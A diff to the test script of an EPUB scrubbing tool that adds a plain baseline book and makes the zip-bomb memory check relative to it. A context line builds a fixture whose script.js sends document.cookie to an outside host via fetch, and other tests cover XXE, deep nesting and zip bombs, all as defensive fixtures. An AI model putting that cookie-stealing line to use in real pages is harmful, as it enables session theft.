@@ -134,6 +134,7 @@ book('drm.epub', extra=[('META-INF/encryption.xml',
      'URI="c.xhtml"/></enc:CipherData></enc:EncryptedData></encryption>')])
 book('script.epub', extra=[('script.js', 'fetch("https://example.org/" + document.cookie)')])
 book('nocontainer.epub', container=False)
+book('plain.epub')
 
 ct = ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
       '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
@@ -233,11 +234,14 @@ check "...saying why" grep -q 'external entity' .msg
 check "...and nothing is written" test ! -e out-xxe.epub
 st=$(status timeout 60 "$S" scrub -o out-deep.epub deep.epub)
 check "100 000 nested elements in an EPUB are refused with exit 1 ($st)" test "$st" = 1
+"$S" scrub -q -o out-plain.epub plain.epub >/dev/null 2>&1
+/usr/bin/time -q -f %M -o rss-plain "$S" scrub -q -o out-plain.epub plain.epub >/dev/null 2>&1
 /usr/bin/time -q -f %M -o rss-bomb "$S" scrub -o out-bomb.epub bomb.epub >.msg 2>&1
 st=$?
 check "an EPUB zip bomb (200 MiB of XHTML) is refused with exit 1 ($st)" test "$st" = 1
 check "...saying it expands too much" grep -q "expands\|larger than" .msg
-check "...in bounded memory ($(cat rss-bomb) KiB)" test "$(cat rss-bomb)" -lt 65536
+check "...in at most 32 MiB more memory than a one-page book ($(cat rss-plain) -> $(cat rss-bomb) KiB)" \
+	test "$(cat rss-bomb)" -lt $(($(cat rss-plain) + 32768))
 st=$(status "$S" scrub -o out-drm.epub drm.epub)
 check "an EPUB with DRM is refused as unsupported (exit 3)" test "$st" = 3
 check "...saying it is DRM" grep -q DRM .msg
